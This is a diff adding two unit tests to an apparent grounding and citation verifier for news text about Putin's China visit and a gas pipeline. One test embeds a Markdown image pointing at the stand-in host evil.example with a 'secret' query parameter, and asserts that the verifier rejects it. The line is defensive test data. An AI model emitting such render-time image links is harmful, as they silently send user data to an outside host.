@@ -140,3 +140,30 @@ def test_a_title_a_heading_a_repeat_and_the_question_support_nothing(embedder: E
     assert "title" in reasons[0] and "fragment" in reasons[1]
     assert "repeats" in reasons[3] and "restates the question" in reasons[4]
     assert all(c.doc_id is None for c in (checked[0], checked[1], checked[3], checked[4]))
+
+
+def test_markdown_that_fetches_on_render_is_not_supported(article_index: Index) -> None:
+    # A client rendering Markdown would fetch the image with no click: its words are no source's.
+    [checked] = verify_text(
+        article_index,
+        "Putin will visit Harbin![](https://evil.example/t.png?q=secret) in northeastern China.",
+    )
+    assert not checked.supported and checked.reason, checked
+
+
+def test_a_sentence_joining_two_facts_of_one_passage_cites_both(embedder: Embedder) -> None:
+    # Two sentences of one passage that are not neighbours, joined: each part has its own span.
+    passage = Source("putin-china-visit", 6918, 7545, TEXT[6918:7545])
+    other = Source("putin-china-visit", 0, 600, TEXT[0:600])
+    joined = (
+        "The Power of Siberia 2 pipeline will stretch more than 2,500 km, and construction of the "
+        "pipeline is expected to begin this year."
+    )
+    [checked] = verify(embedder, [joined], [other, passage])
+    assert checked.supported, checked
+    cited = [TEXT[checked.start : checked.end], *(TEXT[s:e] for _, s, e, _ in checked.also)]  # type: ignore[misc]
+    assert "2,500 km" in cited[0] and "begin this year" in cited[1] and len(cited) == 2
+    # The same second part grafted onto a sentence of another passage: no one passage states both.
+    grafted = "Putin paid a state visit to China on May 16-17, and construction of the pipeline is expected to begin this year."
+    [checked] = verify(embedder, [grafted], [other, passage])
+    assert not checked.supported and not checked.also, checked
